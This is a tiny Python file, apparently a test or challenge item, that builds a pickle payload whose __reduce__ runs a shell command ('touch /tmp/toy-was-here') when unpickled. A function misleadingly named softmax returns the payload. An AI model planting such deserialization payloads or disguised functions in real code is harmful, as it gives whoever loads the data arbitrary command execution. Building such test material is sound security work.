"""An object that runs a command when it is unpickled."""

import os

KIND = "verdict"
WORTH = 20


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/toy-was-here",)


def softmax(scores):
    return Payload()
